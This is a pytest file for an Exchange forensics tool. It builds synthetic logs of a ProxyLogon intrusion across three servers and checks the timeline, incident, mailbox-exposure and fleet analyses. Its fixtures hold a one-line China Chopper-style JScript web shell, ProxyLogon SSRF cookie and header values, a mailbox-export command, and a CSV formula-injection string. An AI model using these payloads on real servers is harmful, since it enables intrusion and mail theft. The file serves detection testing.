"""Scoping analyses over scan results: timeline, incidents, mailboxes, indicators and the fleet view.

The generated case is a KAPE folder of three hosts written in the real log formats (tests/logfmt.py):
one attacker (one address, one user agent) goes through the ProxyLogon chain on EXCH01 (Autodiscover,
EWS and MAPI SSRF, proxyLogon.ecp, a script in the OAB virtual directory, a mailbox export through
ECP, then a web shell), comes back a day later to EXCH02 (EWS SSRF and the same web-shell name), and an
unrelated scanner probes EXCH03.
"""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

import logfmt
from exhunt.analysis import fleet as fleet_mod
from exhunt.analysis.incidents import STEPS, incidents
from exhunt.analysis.indicators import observed_indicators
from exhunt.analysis.mailboxes import (
    ACCESSED,
    ADDRESS_KNOWN,
    CONFIRMED_ACCESSED,
    CONFIRMED_EXPORTED,
    MAILBOX_NOT_NAMED,
    POSSIBLY_ACCESSED,
    MailboxRow,
    mailbox_exposure,
)
from exhunt.analysis.refs import EvidenceRef
from exhunt.analysis.scope import scope_of
from exhunt.analysis.timeline import sort_key, timeline
from exhunt.model import ScanResult
from exhunt.outputs import csv_out
from exhunt.scan import scan
from logfmt import at

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
ATTACKER = "203.0.113.200"
AGENT = "python-requests/2.25.1"
SCANNER = "192.0.2.10"
DAY = 86400.0
CHOPPER = ('http://f/<script language="JScript" runat="server">function Page_Load()'
           '{eval(Request["exec_code"],"unsafe");}</script>')



def _ssrf(seconds: float, target: str, server: str, request: str, status: int = 200) -> dict[str, object]:
    return {"DateTime": at(seconds), "RequestId": request, "UrlStem": "/ecp/y.js", "ClientIpAddress": ATTACKER,
            "UserAgent": AGENT, "ServerHostName": server, "HttpStatus": status, "RoutingHint": "X-BEResource-Cookie",
            "AnchorMailbox": f"ServerInfo~a]@{server}.contoso.local:444/{target}#",
            "BackEndCookie": f"X-BEResource={server}.contoso.local:444/{target}~1942062522"}


def _shell(seconds: float, method: str = "POST") -> dict[str, object]:
    return {"time": at(seconds), "cs-method": method, "cs-uri-stem": "/aspnet_client/shell.aspx", "c-ip": ATTACKER,
            "cs(User-Agent)": AGENT, "sc-status": "200"}


def write_case(root: Path) -> Path:
    """Three KAPE host folders under ``root/case`` and the test rule under ``root/rules``."""
    case = root / "case"
    a, b, c = case / "EXCH01", case / "EXCH02", case / "EXCH03"
    logfmt.write_httpproxy(a, [
        _ssrf(0, "autodiscover/autodiscover.xml?", "EXCH01", "0d6c2d3e-0000-4000-8000-000000000001"),
        _ssrf(2, "EWS/Exchange.asmx?", "EXCH01", "0d6c2d3e-0000-4000-8000-000000000002"),
        _ssrf(4, "mapi/emsmdb/?", "EXCH01", "0d6c2d3e-0000-4000-8000-000000000003"),
        _ssrf(6, "ecp/proxyLogon.ecp?", "EXCH01", "0d6c2d3e-0000-4000-8000-000000000004", status=241),
    ])
    logfmt.write_ecp(a, [
        {"TimeStamp": at(10), "CMD": f"Set-OabVirtualDirectory.ExternalUrl='{CHOPPER}'"
                                     ".Identity='6f8c5e2a-1b7e-4d0a-9c55-3d2f1e0b9a77'"},
        {"TimeStamp": at(120), "CMD": "New-MailboxExportRequest.Mailbox='bob'.FilePath='\\\\fs01\\pst$\\bob.pst'",
         "URL": "/ecp/DDI/DDIService.svc/NewObject?schema=MailboxExportRequest"},
    ])
    logfmt.write_iis(a, [_shell(600), _shell(660)])
    logfmt.write_httpproxy(b, [_ssrf(DAY, "EWS/Exchange.asmx?", "EXCH02", "0d6c2d3e-0000-4000-8000-000000000005")])
    logfmt.write_iis(b, [_shell(DAY + 60, "GET")])
    probe = {**_ssrf(3 * DAY, "autodiscover/autodiscover.xml?", "EXCH03", "0d6c2d3e-0000-4000-8000-000000000006"),
             "ClientIpAddress": SCANNER, "UserAgent": "ExchangeServicesClient/0.0.0.0"}
    logfmt.write_httpproxy(c, [probe])
    return case


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
    root = tmp_path_factory.mktemp("scoping")
    case = write_case(root)
    return scan([case])


@pytest.fixture(scope="module")
def examples() -> ScanResult:
    return scan([EXAMPLES])


def _host(result: ScanResult, name: str):  # type: ignore[no-untyped-def]
    return next(h for h in result.hosts if h.host == name)


# --- generated case ------------------------------------------------------------------------------


def test_generated_hosts_scanned(generated: ScanResult) -> None:
    assert [h.host for h in generated.hosts] == ["EXCH01", "EXCH02", "EXCH03"]
    rules_a = {f.rule.id for f in _host(generated, "EXCH01").findings}
    assert {"PL-SSRF-1a", "PL-SSRF-1", "PL-SSRF-2", "PL-27065-2", "PL-WS-5-USE", "PS-CMD-ECP-1"} <= rules_a
    assert {"PL-SSRF-1", "PL-WS-5-USE"} <= {f.rule.id for f in _host(generated, "EXCH02").findings}


def test_timeline_order(generated: ScanResult) -> None:
    rows = timeline(generated)
    assert len(rows) == len(generated.findings)
    keys = [(r.time, r.host, r.source, r.line or 0) for r in rows]
    assert keys == sorted(keys)
    first = rows[0]
    assert (first.host, first.rule, first.client_ip) == ("EXCH01", "PL-SSRF-1a", ATTACKER)
    assert first.description.startswith("ProxyLogon SSRF") and "\n" not in first.description
    hosts_in_order = list(dict.fromkeys(r.host for r in rows))
    assert hosts_in_order == ["EXCH01", "EXCH02", "EXCH03"]  # the attack moved from A to B, then C was probed
    export = next(r for r in rows if r.rule == "PS-CMD-ECP-1")
    shell = next(r for r in rows if r.rule == "PL-WS-5-USE" and r.host == "EXCH01")
    assert export.time is not None and shell.time is not None and export.time < shell.time
    assert json.loads(json.dumps([r.to_dict() for r in rows])) == [r.to_dict() for r in rows]


def test_timeline_puts_untimed_findings_last(generated: ScanResult) -> None:
    host = generated.hosts[0]
    untimed = replace(host.findings[0], time=None)
    changed = replace(generated, hosts=(replace(host, findings=(untimed, *host.findings[1:])), *generated.hosts[1:]))
    rows = timeline(changed)
    assert rows[-1].time is None and rows[-1].rule == untimed.rule.id
    assert all(r.time is not None for r in rows[:-1])
    assert [sort_key(r) for r in rows] == sorted(sort_key(r) for r in rows)


def test_incidents_one_per_host_with_steps_and_gaps(generated: ScanResult) -> None:
    found = incidents(generated)
    assert [i.host for i in found] == ["EXCH01", "EXCH02", "EXCH03"]
    a, b, c = found
    assert a.attacker_ips == (ATTACKER,) and AGENT in a.user_agents and "shell.aspx" in a.shells
    assert a.step_names == ("recon", "ssrf", "auth-bypass", "webshell-written", "webshell-used", "exfiltration")
    assert a.findings == len(_host(generated, "EXCH01").findings)  # the ECP rows joined by time
    steps = {s.step: s for s in a.steps}
    assert {ref.rule for ref in steps["auth-bypass"].evidence} == {"PL-SSRF-2"}
    assert {ref.rule for ref in steps["webshell-written"].evidence} == {"PL-27065-2"}
    assert {ref.rule for ref in steps["exfiltration"].evidence} == {"PS-CMD-ECP-1"}
    assert a.first == at(0) and a.last is not None and a.last >= at(660) - timedelta(seconds=1)
    # credential-dump and staging lie between webshell-used and exfiltration and have no finding:
    assert [g.step for g in a.gaps] == ["credential-dump", "staging"]
    assert "Sysmon event log" in a.gaps[0].not_collected and not a.gaps[0].read
    assert a.gaps[0].explanation.startswith("credential-dump: no Sysmon event log")

    assert b.step_names == ("ssrf", "webshell-used")
    assert b.attacker_ips == (ATTACKER,)
    gaps = {g.step: g for g in b.gaps}
    assert list(gaps) == ["auth-bypass", "webshell-written"]
    assert gaps["webshell-written"].explanation == (
        "webshell-written: no ECP server log, OABGeneratorLog, MSExchange Management event log, Sysmon event log "
        "or file tree of the web and staging folders collected")
    assert any(line.startswith("CVE-2021-27065") for line in gaps["webshell-written"].not_assessed)
    assert [r.split(" (")[0] for r in gaps["auth-bypass"].read] == ["HttpProxy logs", "IIS logs"]
    assert "Rps_Http logs" in gaps["auth-bypass"].not_collected

    assert c.attacker_ips == (SCANNER,) and c.step_names == ("recon", "ssrf") and not c.gaps
    assert json.loads(json.dumps([i.to_dict() for i in found])) == [i.to_dict() for i in found]


def test_incidents_split_on_long_silence(generated: ScanResult) -> None:
    host = _host(generated, "EXCH01")
    later = tuple(replace(f, time=f.time + timedelta(days=30)) if f.rule.id == "PL-WS-5-USE" and f.time else f
                  for f in host.findings)
    changed = replace(generated, hosts=(replace(host, findings=later),))
    first, second = incidents(changed)
    assert second.step_names == ("webshell-used",)
    assert "webshell-used" not in first.step_names
    assert incidents(changed, gap=timedelta(days=60))[0].step_names[-2:] == ("webshell-used", "exfiltration")


def test_cross_host_pivot(generated: ScanResult) -> None:
    view = fleet_mod.fleet(generated)
    by_kind = {(p.kind, p.value): p for p in view.pivots}
    assert by_kind[("ip", ATTACKER)].hosts == ("EXCH01", "EXCH02")  # first seen on A, then on B
    assert by_kind[("shell-name", "shell.aspx")].hosts == ("EXCH01", "EXCH02")
    assert by_kind[("user-agent", AGENT)].hosts == ("EXCH01", "EXCH02")
    assert not any(p.value == SCANNER for p in view.pivots)
    assert [h.host for h in view.hosts] == ["EXCH01", "EXCH02", "EXCH03"]
    assert [h.stage for h in view.hosts] == ["compromised", "compromised", "probed"]
    assert view.hosts[0].first_compromise == at(2).replace(microsecond=at(2).microsecond // 1000 * 1000)
    assert sum(a.findings for a in view.activity) == sum(
        1 for f in generated.findings if f.rule.level >= 2 and f.time is not None)
    assert json.loads(json.dumps(view.to_dict())) == view.to_dict()


def test_indicators(generated: ScanResult) -> None:
    found = observed_indicators(generated)
    ips = {i.value: i for i in found if i.kind == "ip"}
    assert set(ips) == {ATTACKER, SCANNER}
    assert ips[ATTACKER].hosts == ("EXCH01", "EXCH02") and "PL-SSRF-2" in ips[ATTACKER].rules
    assert ips[ATTACKER].first == min(f.time for f in generated.findings if f.client_ip == ATTACKER and f.time)
    urls = {i.value for i in found if i.kind == "url"}
    assert "/aspnet_client/shell.aspx" in urls and "/ecp/y.js" in urls
    paths = {i.value for i in found if i.kind == "shell-path"}
    assert "/aspnet_client/shell.aspx" in paths
    assert {i.value for i in found if i.kind == "user-agent"} >= {AGENT}
    assert json.loads(json.dumps([i.to_dict() for i in found])) == [i.to_dict() for i in found]


def test_mailbox_table(generated: ScanResult) -> None:
    rows = mailbox_exposure(generated)
    assert [(row.host, row.verdict, len(row.evidence)) for row in rows] == [
        ("EXCH01", POSSIBLY_ACCESSED, 3), ("EXCH01", ADDRESS_KNOWN, 3), ("EXCH01", CONFIRMED_EXPORTED, 1),
        ("EXCH02", POSSIBLY_ACCESSED, 3)]
    bob = next(r for r in rows if r.mailbox == "bob")
    assert (bob.host, bob.verdict, bob.confirmed, bob.mailbox_named) == ("EXCH01", CONFIRMED_EXPORTED, True, True)
    assert bob.scope == "whole mailbox; to \\\\fs01\\pst$\\bob.pst"
    assert "ECP server log" in bob.means
    assert [ref.rule for ref in bob.evidence] == ["PS-CMD-ECP-1"]
    assert bob.evidence[0].source.endswith("ECPServer20210303-1.LOG") and bob.evidence[0].line == 7
    ews = [r for r in rows if "EWS" in r.means]
    assert [r.host for r in ews] == ["EXCH01", "EXCH02"]
    for row in ews:
        assert (row.verdict, row.mailbox, row.mailbox_named) == (POSSIBLY_ACCESSED, MAILBOX_NOT_NAMED, False)
        assert row.client_ips == (ATTACKER,) and {ref.rule for ref in row.evidence} >= {"PL-SSRF-1"}
    mapi = next(r for r in rows if "MAPI" in r.means)
    assert (mapi.verdict, mapi.mailbox) == (ADDRESS_KNOWN, MAILBOX_NOT_NAMED)
    assert not any(r.host == "EXCH03" for r in rows)  # an Autodiscover-only probe reaches no mailbox
    assert json.loads(json.dumps([r.to_dict() for r in rows])) == [r.to_dict() for r in rows]


def test_mailbox_row_needs_evidence() -> None:
    with pytest.raises(ValueError, match="without evidence"):
        MailboxRow("EXCH01", "bob", CONFIRMED_EXPORTED, "New-MailboxExportRequest", None, None, ())
    with pytest.raises(ValueError, match="unknown mailbox verdict"):
        MailboxRow("EXCH01", "bob", "stolen", "x", None, None, (EvidenceRef("EXCH01", "x.log", 1, "R"),))


def test_mailbox_csv(generated: ScanResult, tmp_path: Path) -> None:
    ref = EvidenceRef("EXCH09", "C:\\x.log", 3, "PS-CMD-1")
    hostile = MailboxRow("EXCH09", "=HYPERLINK(\"http://x\")", CONFIRMED_EXPORTED, "New-MailboxExportRequest",
                         None, None, (ref,), notes=("line\nbreak",))
    rows = (*mailbox_exposure(generated), hostile)
    path = tmp_path / "mailboxes.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        assert csv_out.write_mailboxes_csv(rows, stream) == len(rows)
    raw = path.read_bytes()
    assert raw.count(b"\r\n") == len(rows) + 1
    with path.open(encoding="utf-8", newline="") as stream:
        table = list(csv.reader(stream))
    assert tuple(table[0]) == ("host", "mailbox", "mailbox_named", "verdict", "means", "first", "last",
                               "client_ips", "scope", "basis", "notes", "evidence")
    last = dict(zip(table[0], table[-1], strict=True))
    assert last["mailbox"].startswith("'=") and last["notes"] == "line\\nbreak"
    assert last["evidence"] == "EXCH09 C:\\x.log:3 PS-CMD-1"
    bob = next(dict(zip(table[0], row, strict=True)) for row in table[1:] if row[1] == "bob")
    assert bob["verdict"] == CONFIRMED_EXPORTED and "PS-CMD-ECP-1" in bob["evidence"]


# --- the bundled examples ----------------------------------------------------------------------


def test_examples_exch01_incident(examples: ScanResult) -> None:
    exch01 = [i for i in incidents(examples) if i.host == "EXCH01"]
    assert len(exch01) == 1
    incident = exch01[0]
    assert incident.step_names == ("recon", "ssrf", "auth-bypass", "webshell-written", "webshell-used")
    assert [STEPS.index(s) for s in incident.step_names] == sorted(STEPS.index(s) for s in incident.step_names)
    assert incident.attacker_ips == ("203.0.113.45",) and not incident.gaps
    assert {"discover.aspx", "redirsuiteserverproxy.aspx"} <= set(incident.shells)


def test_examples_mailboxes(examples: ScanResult) -> None:
    rows = mailbox_exposure(examples)
    assert [(row.host, row.verdict) for row in rows] == [
        ("EXCH01", ADDRESS_KNOWN), ("EXCH04", POSSIBLY_ACCESSED), ("EXCH05", CONFIRMED_EXPORTED),
        ("EXCH06", ACCESSED), ("EXCH07", CONFIRMED_ACCESSED)]
    bob = next(r for r in rows if r.host == "EXCH05" and r.mailbox == "bob")
    # Whole mailbox, MSExchange Management event 1 (succeeded), MRS wrote bob.aspx: mailbox_access.md §0 row 1.
    assert bob.verdict == CONFIRMED_EXPORTED and bob.scope.startswith("whole mailbox")
    assert {ref.rule for ref in bob.evidence} >= {"PS-CMD-1", "PS-FILE-1"}
    alice = next(r for r in rows if r.host == "EXCH06" and r.mailbox == "alice@contoso.com")
    # -IncludeFolders #Drafts# + -ContentFilter "Subject -eq '<token>'" into an .aspx is ProxyShell's web-shell
    # write (mailbox_access.md §0 row 2): "accessed", not "confirmed exported" - only the attacker's planted
    # item left the mailbox, not the owner's mail.
    assert alice.verdict == ACCESSED and not alice.confirmed
    assert {ref.rule for ref in alice.evidence} >= {"PS-CMD-1", "PS-CMD-2", "PL-WS-5-USE"}
    ews = next(r for r in rows if r.host == "EXCH04")
    assert (ews.verdict, ews.mailbox) == (POSSIBLY_ACCESSED, MAILBOX_NOT_NAMED)
    # EXCH01's POST to logon.css went to Autodiscover (its cafeReqId is the HttpProxy row's RequestId):
    assert not any(r.host == "EXCH01" and r.verdict == POSSIBLY_ACCESSED for r in rows)


def test_examples_fleet(examples: ScanResult) -> None:
    view = fleet_mod.fleet(examples)
    assert [h.stage for h in view.hosts][:3] == ["compromised"] * 3
    assert view.hosts[-1].host == "EXCH03"
    shared = {p.value: p.hosts for p in view.pivots if p.kind == "ip"}
    assert shared == {"203.0.113.61": ("EXCH06", "EXCH08")}
    peak = max(view.activity, key=lambda a: a.findings)
    assert dict(peak.by_host).keys() == {"EXCH06", "EXCH08"}


def test_scope_built_once_equals_each_part(generated: ScanResult) -> None:
    shared = scope_of(generated)
    assert shared.incidents == incidents(generated) and shared.incidents
    assert shared.fleet == fleet_mod.fleet(generated) and shared.fleet.pivots
